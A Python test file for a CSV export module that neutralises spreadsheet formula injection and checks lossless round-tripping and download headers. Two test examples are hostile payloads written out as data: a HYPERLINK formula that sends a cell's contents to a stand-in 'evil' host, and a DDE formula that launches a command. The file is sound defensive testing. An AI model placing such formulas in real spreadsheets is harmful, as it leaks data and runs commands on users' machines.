"""A table as a file: nothing in it runs in a spreadsheet, and nothing of it is lost."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from safekeeping.csv import csv_file, csv_lines, safe_cell

SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\0"))
FORMULAS = st.builds("".join, st.tuples(st.sampled_from(["", " ", "\n", "\u00a0"]), st.sampled_from(SIGNS), TEXTS))


def whole(rows):
    return "".join(csv_lines(rows))


@given(FORMULAS)
@example('=HYPERLINK("http://evil/" & A1)')
@example("-2+3+cmd|' /C calc'!A0")
def test_a_formula_becomes_text(text):
    assert safe_cell(text) == f"'{text}"


@given(TEXTS)
def test_no_cell_begins_with_a_sign_and_no_letter_is_lost(text):
    cell = str(safe_cell(text))
    assert not cell.lstrip().startswith(SIGNS)
    assert cell.removeprefix("'") == text.removeprefix("'")


@given(st.lists(st.lists(TEXTS | st.integers(-9, 9) | st.floats(-9, 9), min_size=1, max_size=4), max_size=4))
def test_what_is_written_is_what_is_read(rows):
    joined = whole(rows)
    found = [list(row) for row in csv.reader(io.StringIO(joined[1:], newline=""), quoting=csv.QUOTE_NONNUMERIC)]
    assert found == [[safe_cell(cell) for cell in row] for row in rows]


@pytest.mark.parametrize(
    ("cell", "written"),
    [(-3, "-3"), (0.5, "0.5"), (Decimal("-1.50"), "-1.50"), (None, '""'), ("-3", '"\'-3"'), ('a"b', '"a""b"')],
)
def test_numbers_stay_numbers_and_texts_are_quoted(cell, written):
    assert whole([[cell]]) == f"\ufeff{written}\r\n"


def test_a_nul_is_left_out():
    assert safe_cell("a\0b") == "ab"
    assert safe_cell("\0=1") == "'=1"


def test_the_file_is_sent_line_by_line_and_kept_by_no_cache():
    answer = csv_file(([n] for n in range(3)), name="values.csv")
    assert answer.streaming
    assert list(answer) == [b"\xef\xbb\xbf", b"0\r\n", b"1\r\n", b"2\r\n"]
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="values.csv"'
    assert answer["Cache-Control"] == "no-store"
